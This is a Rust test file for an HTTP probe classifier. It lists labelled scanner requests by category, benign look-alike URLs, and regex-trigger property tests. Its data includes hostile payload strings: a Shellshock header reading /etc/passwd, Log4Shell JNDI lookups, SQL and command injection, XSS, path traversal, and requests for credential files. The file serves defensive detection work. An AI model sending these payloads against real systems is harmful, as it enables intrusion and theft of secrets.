//! Held-out examples, written from the attack classes and kept apart from the labelled
//! dev corpus that `tests/probe_corpus.rs` measures: if the rules only fitted that
//! corpus, these would fail. Same thresholds as the corpus test.

use super::{Classifier, ProbeCategory, ProbeCategory::*};
use http::Method;

const SHELLSHOCK: &str = "() { :;}; echo; /bin/cat /etc/passwd";

/// (method, target, user agent, expected category)
pub(super) const PROBES: &[(&str, &str, Option<&str>, ProbeCategory)] = &[
    // wordpress
    ("GET", "/wp-content/plugins/revslider/temp/update_extract/x.php", None, Wordpress),
    ("GET", "/wp-json/wp/v2/users/1", None, Wordpress),
    ("GET", "/?author=2", None, Wordpress),
    ("GET", "/wp-cron.php", None, Wordpress),
    ("POST", "/blog/xmlrpc.php", None, Wordpress),
    ("GET", "/wordpress/wp-includes/wlwmanifest.xml", None, Wordpress),
    ("GET", "/wp-content/plugins/elementor/readme.txt", None, Wordpress),
    ("GET", "/WP-LOGIN.PHP?action=register", None, Wordpress),
    ("GET", "/wp-includes/ID3/license.txt", None, Wordpress),
    ("GET", "//wp-admin/install.php?step=1", None, Wordpress),
    // php
    ("GET", "/phpMyAdmin4.8.5/index.php", None, Php),
    ("GET", "/db/phpmyadmin/", None, Php),
    ("GET", "/adminer-4.8.1.php", None, Php),
    ("GET", "/php-info.php", None, Php),
    ("GET", "/index.php/api/v1", None, Php),
    ("GET", "/index.html?XDEBUG_SESSION=PHPSTORM", None, Php),
    ("GET", "/sqladmin/", None, Php),
    ("GET", "/test/info.php", None, Php),
    ("GET", "/login.php5", None, Php),
    // secrets
    ("GET", "/.git/index", None, Secrets),
    ("GET", "/config/.env.production", None, Secrets),
    ("GET", "/app/.env.local", None, Secrets),
    ("GET", "/.svn/wc.db", None, Secrets),
    ("GET", "/.hg/hgrc", None, Secrets),
    ("GET", "/.aws/config", None, Secrets),
    ("GET", "/id_ed25519", None, Secrets),
    ("GET", "/dump.sql", None, Secrets),
    ("GET", "/database.sql.zip", None, Secrets),
    ("GET", "/www.zip", None, Secrets),
    ("GET", "/backup_2023.tar.gz", None, Secrets),
    ("GET", "/example.com.tar.gz", None, Secrets),
    ("GET", "/.bash_history", None, Secrets),
    ("GET", "/config/database.yml", None, Secrets),
    ("GET", "/appsettings.Development.json", None, Secrets),
    ("GET", "/.env%2e", None, Secrets),
    ("GET", "/WEB.config%20", None, Secrets),
    ("GET", "/index.php~", None, Secrets),
    ("GET", "/.idea/workspace.xml", None, Secrets),
    ("GET", "/sftp-config.json", None, Secrets),
    ("GET", "/WEB-INF/web.xml", None, Secrets),
    ("GET", "/server.key", None, Secrets),
    ("GET", "/wp-content/debug.log", None, Secrets),
    // admin
    ("GET", "/admin/login.php", None, Admin),
    ("GET", "/administrator/index.php", None, Admin),
    ("GET", "/cpanel/", None, Admin),
    ("GET", "/manager/status", None, Admin),
    ("GET", "/server-info", None, Admin),
    ("GET", "/webadmin/login.html", None, Admin),
    ("GET", "/admin.php", None, Admin),
    ("GET", "/shop/siteadmin/login.aspx", None, Admin),
    ("GET", "/admin;jsessionid=abc", None, Admin),
    // traversal
    ("GET", "/%2e%2e/%2e%2e/etc/passwd", None, Traversal),
    ("GET", "/download?file=....//....//etc/shadow", None, Traversal),
    ("GET", "/static/%252e%252e/%252e%252e/etc/hosts", None, Traversal),
    ("GET", "/page?include=..%5c..%5cboot.ini", None, Traversal),
    ("GET", "/img?src=file:///etc/passwd", None, Traversal),
    ("GET", "/view?file=php://filter/convert.base64-encode/resource=index", None, Traversal),
    ("GET", "/..%c1%9c..%c1%9cwindows/win.ini", None, Traversal),
    ("GET", "/%u002e%u002e/%u002e%u002e/etc/passwd", None, Traversal),
    ("GET", "/@fs/etc/passwd", None, Traversal),
    ("GET", "/?page=%2Fproc%2Fself%2Fcmdline", None, Traversal),
    ("GET", "/report?name=invoice.pdf%00", None, Traversal),
    // injection
    ("GET", "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--", None, Injection),
    ("GET", "/item?id=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--+", None, Injection),
    ("GET", "/login?user=admin%27--&pass=x", None, Injection),
    ("GET", "/?id=1%20OR%201=1", None, Injection),
    ("GET", "/?q=%3Cimg%20src%3D1%20onerror%3Dprompt(1)%3E", None, Injection),
    ("GET", "/out?next=javascript%3Aalert%28document.domain%29", None, Injection),
    ("GET", "/comment?text=%22%3E%3Csvg%20onload%3Dconfirm%281%29%3E", None, Injection),
    ("GET", "/tools?cmd=%7Ccat%20/etc/passwd", None, Injection),
    ("GET", "/ping?host=8.8.8.8%26%26whoami", None, Injection),
    ("GET", "/?x=%60id%60", None, Injection),
    ("GET", "/?name=%7B%7B7*'7'%7D%7D", None, Injection),
    ("GET", "/?tpl=%24%7B%7B7*7%7D%7D", None, Injection),
    ("GET", "/?x=${${lower:j}ndi:ldap://a/b}", None, Injection),
    ("GET", "/login?user[$ne]=x&pass[$ne]=y", None, Injection),
    ("GET", "/people?user=*)(uid=*))(|(uid=*", None, Injection),
    ("GET", "/redirect?url=%0d%0aSet-Cookie:%20a=b", None, Injection),
    ("GET", "/?q=%3C%25%3D%207*7%20%25%3E", None, Injection),
    ("GET", "/api/users?id=1;DROP%20TABLE%20users", None, Injection),
    ("GET", "/?id=1)%20AND%20SLEEP(5)%23", None, Injection),
    ("GET", "/", Some("${jndi:ldap://198.51.100.1/a}"), Injection),
    // cgi
    ("GET", "/cgi-bin/admin.cgi", None, Cgi),
    ("GET", "/scripts/test.pl", None, Cgi),
    ("POST", "/cgi-bin/.%2e/.%2e/bin/sh", None, Cgi),
    ("GET", "/cgi-sys/entropysearch.cgi", None, Cgi),
    ("POST", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3D0", None, Cgi),
    ("GET", "/index.php?-s", None, Cgi),
    ("GET", "/cgi-bin/hello", Some(SHELLSHOCK), Cgi),
    ("GET", "/status.sh", None, Cgi),
    // framework
    ("GET", "/actuator/gateway/routes", None, Framework),
    ("GET", "/api/actuator/heapdump", None, Framework),
    ("GET", "/jolokia/list", None, Framework),
    ("GET", "/env", None, Framework),
    ("GET", "/solr/admin/info/system", None, Framework),
    ("GET", "/owa/auth/logon.aspx", None, Framework),
    ("GET", "/ecp/default.flt", None, Framework),
    ("POST", "/lib/phpunit/src/Util/PHP/eval-stdin.php", None, Framework),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo", None, Framework),
    ("GET", "/_ignition/health-check", None, Framework),
    ("GET", "/storage/logs/laravel-2024-01-01.log", None, Framework),
    ("GET", "/user/password?name[%23post_render][]=passthru", None, Framework),
    ("GET", "/index.php?option=com_users&view=login", None, Framework),
    ("GET", "/struts2-showcase/index.action", None, Framework),
    ("GET", "/login.action?redirect:%25%7B3*4%7D", None, Framework),
    ("GET", "/jmx-console/HtmlAdaptor?action=inspectMBean", None, Framework),
    ("POST", "/wls-wsat/CoordinatorPortType", None, Framework),
    ("GET", "/console/css/%252e%252e%252fconsole.portal", None, Framework),
    ("GET", "/public/plugins/welcome/../../../../etc/passwd", None, Framework),
    ("POST", "/webtools/control/ProgramExport", None, Framework),
    ("GET", "/geoserver/web/", None, Framework),
    ("POST", "/ui/vropspluginui/rest/services/uploadova", None, Framework),
    ("GET", "/pages/createpage-entervariables.action", None, Framework),
    ("GET", "/magento_version", None, Framework),
    ("GET", "/_profiler/open?file=app/config/parameters.yml", None, Framework),
    ("GET", "/v1.41/containers/json", None, Framework),
    ("GET", "/debug/pprof/", None, Framework),
    ("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", None, Framework),
    ("GET", "/CFIDE/administrator/index.cfm", None, Framework),
    ("GET", "/nacos/v1/auth/users?pageNo=1", None, Framework),
    // iot
    ("GET", "/cgi-bin/luci/admin", None, Iot),
    ("GET", "/setup.cgi?todo=debug", None, Iot),
    ("GET", "/SDK/webLanguage", None, Iot),
    ("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", None, Iot),
    ("GET", "/vpn/../vpns/cfg/smb.conf", None, Iot),
    ("POST", "/remote/logincheck", None, Iot),
    ("POST", "/mgmt/tm/util/bash", None, Iot),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", None, Iot),
    ("GET", "/+CSCOE+/logon.html", None, Iot),
    ("GET", "/api/v1/totp/user-backup-code/../../system/system-information", None, Iot),
    ("POST", "/GponForm/diag_Form?style/", None, Iot),
    ("POST", "/boaform/admin/formPing", None, Iot),
    ("POST", "/goform/set_LimitClient_cfg", None, Iot),
    ("GET", "/cgi-bin/mainfunction.cgi?action=login", None, Iot),
    ("GET", "/webfig/", None, Iot),
    ("POST", "/api/sonicos/auth", None, Iot),
    ("GET", "/ISAPI/Security/userCheck", None, Iot),
    ("GET", "/onvif-http/snapshot", None, Iot),
    ("GET", "/global-protect/portal/css/login.css", None, Iot),
    ("GET", "/cgi-bin/nobody/Machine.cgi?action=get_capability", None, Iot),
    ("POST", "/wanipcn.xml", None, Iot),
    ("GET", "/shell?cd%20/tmp", None, Iot),
    ("POST", "/ztp/cgi-bin/handler", None, Iot),
    // webshell
    ("GET", "/wp-content/uploads/shell.php", None, Webshell),
    ("POST", "/uploads/x.php", None, Webshell),
    ("GET", "/.well-known/acme-challenge/shell.php", None, Webshell),
    ("GET", "/wso2.php", None, Webshell),
    ("GET", "/alfa-shell.php", None, Webshell),
    ("GET", "/c99shell.php", None, Webshell),
    ("GET", "/r57shell.php", None, Webshell),
    ("GET", "/cmd.aspx", None, Webshell),
    ("GET", "/shell.jsp", None, Webshell),
    ("GET", "/sym.php", None, Webshell),
    ("GET", "/uploader.php", None, Webshell),
    ("GET", "/wp-content/themes/twentytwenty/404.php?cmd=id", None, Webshell),
    ("PUT", "/x.jsp/", None, Webshell),
    ("GET", "/?FilesMan", None, Webshell),
    ("POST", "/admin/uploads/images.php", None, Webshell),
];

/// Requests a real site serves or is asked for, with words that look like attacks.
pub(super) const BENIGN: &[(&str, &str)] = &[
    ("GET", "/blog/how-to-secure-wp-login"),
    ("GET", "/search?q=union+of+sets+select+best"),
    ("GET", "/courses/python/lectures/3"),
    ("GET", "/static/app.3f2a.js"),
    ("GET", "/api/v1/users?filter=name%20eq%20%27bob%27"),
    ("GET", "/feed.xml"),
    ("GET", "/.well-known/security.txt"),
    ("GET", "/.well-known/openid-configuration"),
    ("GET", "/apple-touch-icon-precomposed.png"),
    ("GET", "/favicon-32x32.png"),
    ("GET", "/images/env.png"),
    ("GET", "/docs/git-basics"),
    ("GET", "/search?q=time.sleep(5)+not+working"),
    ("GET", "/search?q=%24(document).ready"),
    ("GET", "/search?q=how+to+cat+a+file+in+linux"),
    ("GET", "/search?q=what+does+1%3D1+mean"),
    ("GET", "/search?q=rock+%27n%27+roll"),
    ("GET", "/search?q=tom+%26%26+jerry"),
    ("GET", "/search?q=%22hello+world%22+or+%22goodbye%22"),
    (
        "GET",
        "/api/v1/items?filter=price%20gt%205%20and%20name%20eq%20%27x%27",
    ),
    ("GET", "/courses/linux/the-etc-directory"),
    ("GET", "/tags/wordpress"),
    ("GET", "/courses/php-for-beginners"),
    ("GET", "/downloads/course-files.zip"),
    ("GET", "/blog/backup-your-database"),
    ("GET", "/api/v1/admins/count"),
    ("GET", "/about/our-admin-team"),
    ("GET", "/static/js/config.js"),
    ("GET", "/docs/cgi-bin-history"),
    ("GET", "/sitemap-posts.xml"),
    ("GET", "/robots.txt?ver=2"),
    ("GET", "/manifest.webmanifest"),
    ("GET", "/podcast/episode-12-shell-scripting"),
    ("GET", "/api/v1/search?q=O%27Brien%20or%20Smith"),
    ("GET", "/search?q=%27quoted%27+or+not"),
    ("GET", "/login?redirect=%2Fadmin"),
    ("GET", "/blog/2024/05/why-we-moved-off-wordpress"),
    ("GET", "/search?q=curl+https%3A%2F%2Fexample.com"),
    ("GET", "/search?q=ls+-la+command"),
    ("GET", "/courses/sql/lesson?q=select+*+from+users"),
    ("GET", "/search?q=c%3A%5Cusers"),
    ("GET", "/search?q=javascript%3A+the+good+parts"),
    ("GET", "/search?q=%7B%7B+message+%7D%7D+vue"),
    ("GET", "/search?q=100%2B200"),
    ("PUT", "/api/v1/me/avatar.png"),
    ("GET", "/search?q=%E2%80%9Csmart+quotes%E2%80%9D"),
    ("GET", "/events?from=2024-01-01&to=2024-12-31"),
    ("GET", "/blog/jquery-3.7.1.zip-changes"),
];

#[test]
fn held_out_examples() {
    let classifier = Classifier::default();
    let (mut flagged, mut right) = (0, 0);
    for &(method, target, ua, want) in PROBES {
        let method = Method::from_bytes(method.as_bytes()).unwrap();
        match classifier.classify(&method, target, ua.map(str::as_bytes)) {
            Some(m) if m.category == want => {
                flagged += 1;
                right += 1;
            }
            Some(m) => {
                flagged += 1;
                eprintln!(
                    "held-out WRONG CATEGORY: {method} {target}  expected {want}, got {} ({})",
                    m.category, m.rule
                );
            }
            None => eprintln!("held-out MISSED: {method} {target}  expected {want}"),
        }
    }
    let mut false_pos = 0;
    for &(method, target) in BENIGN {
        let method = Method::from_bytes(method.as_bytes()).unwrap();
        if let Some(m) = classifier.classify(&method, target, None) {
            false_pos += 1;
            eprintln!(
                "held-out FALSE POSITIVE: {method} {target}  got {} ({})",
                m.category, m.rule
            );
        }
    }
    let n = PROBES.len() as f64;
    let recall = 100.0 * f64::from(flagged) / n;
    let accuracy = 100.0 * f64::from(right) / n;
    eprintln!(
        "held-out: {} probes, recall {recall:.1} %, category accuracy {accuracy:.1} %; {} benign, {false_pos} false positives",
        PROBES.len(),
        BENIGN.len()
    );
    for c in ProbeCategory::ALL {
        assert!(
            PROBES.iter().filter(|p| p.3 == c).count() >= 5,
            "few held-out examples for {c}"
        );
    }
    assert!(PROBES.len() >= 80 && BENIGN.len() >= 40);
    assert!(recall >= 95.0, "held-out recall {recall:.1} %");
    assert!(
        accuracy >= 90.0,
        "held-out category accuracy {accuracy:.1} %"
    );
    assert_eq!(false_pos, 0);
}

/// Every regex signature runs only when one of its `needs` literals was seen. Check, on
/// every example at hand and on random attack-shaped strings, that a pattern never
/// matches a haystack that lacks all of its needs.
mod triggers {
    use super::super::normalize::prepare;
    use super::super::signatures::{NEED_LOOKBEHIND, PATTERNS};
    use proptest::prelude::*;
    use regex::bytes::{Regex, RegexBuilder};
    use std::sync::OnceLock;

    fn compiled() -> &'static [Regex] {
        static RES: OnceLock<Vec<Regex>> = OnceLock::new();
        RES.get_or_init(|| {
            PATTERNS
                .iter()
                .map(|p| {
                    RegexBuilder::new(p.regex)
                        .unicode(false)
                        .multi_line(true)
                        .line_terminator(b'\0')
                        .build()
                        .unwrap()
                })
                .collect()
        })
    }

    fn check(target: &str) -> Result<(), String> {
        let mut buf = Vec::new();
        let f = prepare(target, &mut buf);
        check_haystack(&buf[f.haystack_start..], target)
    }

    fn check_haystack(hay: &[u8], target: &str) -> Result<(), String> {
        let occurs_at = |n: &[u8], at: usize| hay[at..].starts_with(n);
        for (p, re) in PATTERNS.iter().zip(compiled()) {
            for m in re.find_iter(hay) {
                // A need must start within the look-behind of the match start, inside
                // the match; a zero-length match cannot happen for these patterns.
                let near = (m.start()..=(m.start() + NEED_LOOKBEHIND).min(m.end()))
                    .any(|at| p.needs.iter().any(|n| occurs_at(n, at)));
                if !near {
                    return Err(format!(
                        "{} ({}) matched {:?} in {target:?} without one of its needs near its start",
                        p.rule,
                        p.regex,
                        String::from_utf8_lossy(&hay[m.range()])
                    ));
                }
            }
        }
        Ok(())
    }

    #[test]
    fn regex_triggers_are_complete() {
        for (_, target, _, _) in super::PROBES {
            check(target).unwrap();
        }
        for (_, target) in super::BENIGN {
            check(target).unwrap();
        }
        let corpus =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/probes-dev.tsv");
        if let Ok(text) = std::fs::read_to_string(corpus) {
            for line in text.lines().skip(1) {
                if let Some(target) = line.split('\t').nth(1) {
                    check(target).unwrap();
                }
            }
        }
    }

    /// A pattern with its anchors and word boundaries removed, for generating strings
    /// that come close to matching it.
    fn generator(i: usize) -> BoxedStrategy<String> {
        let re = PATTERNS[i].regex;
        let mut src = String::new();
        let mut prev = '\0';
        for c in re.chars() {
            // `^` outside a class, `$` anchors, `\b`.
            if (c == '^' && prev != '[') || (c == '$' && prev != '\\') {
                prev = c;
                continue;
            }
            if c == 'b' && prev == '\\' {
                src.pop();
                prev = c;
                continue;
            }
            src.push(c);
            prev = c;
        }
        // Whitespace as it can be in a haystack: the decoder folds tabs, vertical tabs and
        // form feeds into spaces.
        let src = src.replace("\\s", "[ \\n\\r]");
        proptest::string::string_regex(&src)
            .unwrap_or_else(|e| panic!("{}: {e}", PATTERNS[i].rule))
            .boxed()
    }

    fn context() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![
                Just(""),
                Just("/"),
                Just("?"),
                Just("&"),
                Just("="),
                Just(" "),
                Just("'"),
                Just("x"),
                Just("1"),
                Just("("),
                Just("\0"),
                Just("\n"),
                Just("a="),
                Just("or "),
                Just("and "),
            ],
            0..4,
        )
        .prop_map(|v| v.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 2048, failure_persistence: None, ..ProptestConfig::default() })]
        #[test]
        fn regex_triggers_are_complete_on_generated_matches(
            (i, core) in (0..PATTERNS.len()).prop_flat_map(|i| (Just(i), generator(i))),
            before in context(),
            after in context(),
        ) {
            let hay = format!("{before}{core}{after}");
            prop_assert!(
                check_haystack(hay.as_bytes(), &hay).is_ok(),
                "pattern {}: {}",
                PATTERNS[i].rule,
                check_haystack(hay.as_bytes(), &hay).unwrap_err()
            );
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
        #[test]
        fn regex_triggers_are_complete_on_attack_shapes(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("/"), Just("?"), Just("&"), Just("="), Just(" "), Just("+"), Just("%09"),
                    Just("%0b"), Just("%0a"), Just("%0d"), Just("'"), Just("\""), Just("`"), Just("("),
                    Just(")"), Just("{"), Just("}"), Just("$"), Just("#"), Just("*"), Just(";"), Just("|"),
                    Just("<"), Just(">"), Just("-"), Just(".."), Just("%ad"), Just("union"), Just("select"),
                    Just("all"), Just("or"), Just("and"), Just("1"), Just("7"), Just("null"), Just("from"),
                    Just("sleep"), Just("order"), Just("by"), Just("script"), Just("javascript:"), Just("svg"),
                    Just("onload"), Just("alert"), Just("jndi:"), Just("lower:"), Just("id"), Just("cat"),
                    Just("wget"), Just("http://"), Just("1.2.3.4"), Just(".sh"), Just("/bin/sh"), Just("$ne"),
                    Just("["), Just("]"), Just("uid"), Just("set-cookie:"), Just("x.php"), Just("cmd"),
                    Just("c"), Just("author"), Just("etc/passwd"), Just("d"), Just("allow_url_include"),
                    Just("%25"), Just("%2"), Just("7"), Just("a"),
                ],
                0..30,
            ),
        ) {
            let target = parts.concat();
            prop_assert!(check(&target).is_ok(), "{}", check(&target).unwrap_err());
        }
    }
}
